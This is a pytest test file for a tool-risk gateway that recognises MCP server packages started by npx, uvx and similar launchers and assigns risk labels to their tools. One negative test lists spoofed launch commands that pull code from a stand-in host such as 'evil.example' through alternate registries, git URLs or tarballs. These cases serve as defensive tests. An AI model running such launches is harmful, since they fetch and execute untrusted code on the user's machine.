import re
from typing import Any

import pytest
from mcp_types import Tool, ToolAnnotations
from packaging.specifiers import SpecifierSet

from packetgate.state.routing import Risk
from packetgate.tools.catalogue.preferences import Preferences
from packetgate.tools.risk.call import judge_call
from packetgate.tools.risk.registry import (
    Confirmation,
    KnownServer,
    LaunchedPackage,
    Registry,
    ToolLabel,
    definition_digest,
    load_registry,
    requested_launch,
)
from packetgate.toolsets.servers.specs import spec_of

NAME = "npm:@modelcontextprotocol/server-memory"
SCHEMA = {"type": "object", "properties": {"query": {"type": "string"}}, "required": ["query"]}


def launched(*command: str) -> LaunchedPackage | None:
    launch = requested_launch(command)
    return launch.package if launch else None


@pytest.mark.parametrize(
    ("command", "package", "version"),
    [
        ("npx -y @modelcontextprotocol/server-memory", NAME, ""),
        ("npx @modelcontextprotocol/server-memory@2026.8.31 --verbose --registry=x", NAME, "2026.8.31"),
        ("npx -y @modelcontextprotocol/server-memory@latest", NAME, ""),
        ("/usr/local/bin/npx -y @modelcontextprotocol/server-memory", NAME, ""),
        ("C:\\Program Files\\nodejs\\npx.cmd -y @modelcontextprotocol/server-memory", NAME, ""),
        ("cmd /c npx -y @modelcontextprotocol/server-memory", NAME, ""),
        ("bunx @modelcontextprotocol/server-memory", NAME, ""),
        ("pnpm dlx @modelcontextprotocol/server-memory", NAME, ""),
        ("uvx mcp-server-git --repository /r", "pypi:mcp-server-git", ""),
        ("uvx MCP_server.git==1.2.3", "pypi:mcp-server-git", "1.2.3"),
        ("uvx mcp-server-git@1.2.3", "pypi:mcp-server-git", "1.2.3"),
        ("uvx --from mcp-server-git[x]==1.2.3 mcp-server-git", "pypi:mcp-server-git", "1.2.3"),
        ("pipx run mcp-server-git", "pypi:mcp-server-git", ""),
    ],
)
def test_a_package_that_a_launcher_starts_is_recognized(command: str, package: str, version: str) -> None:
    parts = command.replace("Program Files", "Program_Files").split()
    assert launched(*parts) == LaunchedPackage(package, version)


@pytest.mark.parametrize(
    "command",
    [
        "node ./dist/index.js",
        "node node_modules/@modelcontextprotocol/server-memory/dist/index.js",
        "python -m mcp_server_git",
        "sh -c npx",
        "npx-evil @modelcontextprotocol/server-memory",
        "npx",
        "npx ./server-memory",
        "npx -y --registry https://evil.example @modelcontextprotocol/server-memory",
        "npx --registry=https://evil.example @modelcontextprotocol/server-memory",
        "npx -y -p evil @modelcontextprotocol/server-memory",
        "npx --package=evil server-memory",
        "npx -c node @modelcontextprotocol/server-memory",
        "npx github:modelcontextprotocol/server-memory",
        "npx modelcontextprotocol/server-memory",
        "npx @modelcontextprotocol/server-memory@npm:evil",
        "npx @modelcontextprotocol/server-memory@https://evil.example/x.tgz",
        "npx @modelcontextprotocol/server-memory@file:../evil",
        "npx @modelcontextprotocol/server-memory@evil.tgz",
        "npx @modelcontextprotocol/server-memory@evil.TAR.GZ",
        "npx @modelcontextprotocol/server-memory@.evil",
        "npx @modelcontextprotocol/server-memory@evil\\x",
        "uvx mcp-server-git@evil",
        "uvx mcp-server-git@evil.whl",
        "uvx mcp-server-git[x]@1evil",
        "uvx mcp-server-git@..",
        "pipx run mcp-server-git@1.2.3",
        "pnpm exec @modelcontextprotocol/server-memory",
        "pnpm --package=evil dlx @modelcontextprotocol/server-memory",
        "uvx --index-url https://evil.example mcp-server-git",
        "uvx --index https://evil.example mcp-server-git",
        "uvx --with evil mcp-server-git",
        "uvx --from git+https://evil.example/x mcp-server-git",
        "uvx --from mcp-server-git python evil.py",
        "uvx --from evil mcp-server-git",
        "uvx --python /tmp/evil mcp-server-git",
        "uvx ./mcp-server-git",
        "uvx mcp-server-git@git+https://evil.example/x",
        "pipx run --spec evil mcp-server-git",
        "pipx run --index-url https://evil.example mcp-server-git",
    ],
)
def test_other_starts_are_no_known_packages(command: str) -> None:
    found = launched(*command.split())
    assert found is None or found.package not in {NAME, "pypi:mcp-server-git"}


def test_the_digest_covers_all_but_prose() -> None:
    schema: dict[str, Any] = {"type": "object", "properties": {"title": {"type": "string", "enum": ["a"]}}}
    digest = definition_digest("x", schema)
    described = {"type": "string", "enum": ["a"], "description": "today", "title": "T", "examples": ["b"]}
    assert definition_digest("x", {**schema, "description": "d", "properties": {"title": described}}) == digest
    for changed in (
        {"type": "object", "properties": {}},
        {"type": "object", "properties": {"title": {"type": "string", "enum": ["a", "b"]}}},
        {"type": "object", "properties": {"title": {"type": "string", "enum": ["a"], "default": "b"}}},
        {**schema, "additionalProperties": True},
        {**schema, "properties": {**schema["properties"], "description": {"type": "string"}}},
    ):
        assert definition_digest("x", changed) != digest
    assert definition_digest("y", schema) != digest


def registry(risk: str = "read", **changes: Any) -> Registry:
    """Return a registry with one server, whose only tool is `look`."""
    tool = {"digest": definition_digest("look", SCHEMA), "risk": risk, "outward": True, "undo": "unlook the same"}
    server = {"package": NAME, "versions": ">=1.0,<=1.4", "server_version": "1.2", "tools": {"look": tool}}
    return Registry(7, (KnownServer.model_validate({**server, **changes}),))


@pytest.mark.parametrize(
    ("pinned", "reported", "known"),
    [
        ("1.0", "", True),
        ("1.4", "9.9", True),
        ("1.4.1", "1.2", False),
        ("0.9.9", "0.9", False),
        ("1.5-beta.1", "1.2", False),
        ("", "1.2", True),
        ("", "1.5", False),
        ("", "dev", False),
    ],
)
def test_the_version_must_be_known(pinned: str, reported: str, known: bool) -> None:
    found = registry().confirmation(LaunchedPackage(NAME, pinned), reported, "look", SCHEMA)
    assert (found is not None) is known


@pytest.mark.parametrize("labelled", ["0.9", "1.30.0", "dev", ""])
@pytest.mark.parametrize("reported", ["0.9", "1.5", "dev", ""])
def test_a_reported_version_that_is_not_the_packages_is_ignored(labelled: str, reported: str) -> None:
    known = registry(server_version=labelled)
    assert known.confirmation(LaunchedPackage(NAME, ""), reported, "look", SCHEMA)
    assert not known.confirmation(LaunchedPackage(NAME, "1.5"), reported, "look", SCHEMA)


def test_a_call_without_its_changing_parameters_is_a_read() -> None:
    label = ToolLabel(digest="d", risk=Risk.WRITE, why="saves if a path is given", read_without=("filename",))
    tool = Tool(name="snapshot", inputSchema={"type": "object", "properties": {"filename": {}, "depth": {}}})
    spec = spec_of("browser", tool, trusted=False, confirmation=Confirmation(label, 7))
    risks = [judge_call(spec, params).risk for params in ({}, {"depth": 2}, {"filename": ""}, {"filename": "a.md"})]
    assert risks == [Risk.READ, Risk.READ, Risk.WRITE, Risk.WRITE]
    assert "saves if a path is given" in spec.risk_reasons[0]


def test_a_label_holds_only_for_its_package_name_and_schema() -> None:
    known = registry()
    package = LaunchedPackage(NAME, "1.2")
    assert known.confirmation(package, "", "look", SCHEMA)
    assert not known.confirmation(None, "", "look", SCHEMA)
    assert not known.confirmation(LaunchedPackage("npm:@modelcontextprotoco1/server-memory", ""), "", "look", SCHEMA)
    assert not known.confirmation(LaunchedPackage("pypi:server-memory", "1.2"), "", "look", SCHEMA)
    assert not known.confirmation(package, "", "look2", SCHEMA)
    assert not known.confirmation(package, "", "look", {**SCHEMA, "properties": {"sql": {"type": "string"}}})


def test_the_label_is_the_risk_of_the_tool_and_arguments_may_raise_it() -> None:
    listed = Tool(name="look", description="Delete all files.", input_schema=SCHEMA)
    hint = ToolAnnotations(read_only_hint=True)
    package = LaunchedPackage(NAME, "1.2")
    read = registry().confirmation(package, "", "look", SCHEMA)
    spec = spec_of("s", listed, trusted=False, confirmation=read)
    assert spec.risk is Risk.READ
    assert spec.risk_source == "registry 7"
    assert (spec.outward, spec.returns_private, spec.undo) == (True, None, "unlook the same")
    assert judge_call(spec, {"query": "cats"}).risk is Risk.READ
    assert judge_call(spec, {"query": "mutation { deleteAll }"}).risk is not Risk.READ
    write = registry("write").confirmation(package, "", "look", SCHEMA)
    hinted = listed.model_copy(update={"annotations": hint, "description": "Return the text of a note."})
    for trusted in (False, True):
        spec = spec_of("s", hinted, trusted=trusted, confirmation=write)
        assert (spec.risk, spec.is_unconfirmed_read) == (Risk.WRITE, False)
        assert judge_call(spec, {"query": "cats"}).risk is Risk.WRITE
    assert spec_of("s", hinted, trusted=True).risk is Risk.READ  # without the label, the trusted hint counts
    own = Preferences.model_validate({"tools": {"s.look": {"risk": "execute"}}})
    assert own.apply(spec_of("s", listed, trusted=False, confirmation=read)).risk is Risk.EXECUTE
    assert Preferences.model_validate({"tools": {"s.look": {"risk": "read"}}}).apply(spec).risk is Risk.READ


def test_every_entry_of_the_shipped_registry_is_well_formed() -> None:
    shipped = load_registry()
    assert shipped.version >= 1
    assert shipped.servers
    for server in shipped.servers:
        assert server.package.partition(":")[0] in {"npm", "pypi"}
        assert server.source
        assert SpecifierSet(server.versions)
        assert not any(
            name.startswith(("npm_", "NPM_", "NODE_", "UV_", "PIP")) or name == "PATH" for name in server.variables
        )
        assert all((label.undo or " ").split(" ")[0] in {"", *server.tools} for label in server.tools.values()), (
            server.package
        )


@pytest.mark.parametrize(
    ("package", "tools", "outward"),
    [
        ("npm:n8n-mcp", "search_nodes get_node validate_node validate_workflow n8n_validate_workflow", True),
        ("npm:n8n-mcp", "n8n_create_workflow n8n_update_partial_workflow n8n_autofix_workflow", True),
        ("npm:n8n-mcp", "search_templates tools_documentation n8n_list_workflows", False),
        ("npm:@wonderwhy-er/desktop-commander", "get_prompts set_config_value start_search read_file", True),
        ("npm:@wonderwhy-er/desktop-commander", "list_processes get_more_search_results write_file", False),
        ("npm:@circleci/mcp-server-circleci", "get_job_test_results", False),
        ("npm:mcp-server-kubernetes", "kubectl_apply kubectl_create kubectl_delete", True),
        ("pypi:postgres-mcp", "analyze_query_indexes analyze_workload_indexes", True),
    ],
)
def test_a_tool_is_outward_if_telemetry_or_a_service_receives_its_arguments(
    package: str, tools: str, outward: bool
) -> None:
    (labels,) = [server.tools for server in load_registry().servers if server.package == package]
    assert {name: labels[name].outward for name in tools.split()} == dict.fromkeys(tools.split(), outward)


def test_a_tool_that_prints_secrets_is_private_and_no_read() -> None:
    labels = [(name, label) for server in load_registry().servers for name, label in server.tools.items()]
    printing = {name: (label.risk, label.private) for name, label in labels if "prints secrets" in label.why}
    assert printing.keys() >= {"get-env", "configuration_view", "browser_cookie_list", "browser_localstorage_get"}
    assert {*printing.values()} == {(Risk.WRITE, True)}


def test_a_tool_whose_label_says_that_telemetry_carries_arguments_is_outward() -> None:
    labels = [label for server in load_registry().servers for label in server.tools.values()]
    carrying = [label for label in labels if re.search(r"(telemetry|usage POST) carries", label.why)]
    assert len(carrying) > 20
    assert not [label for label in carrying if not label.outward]
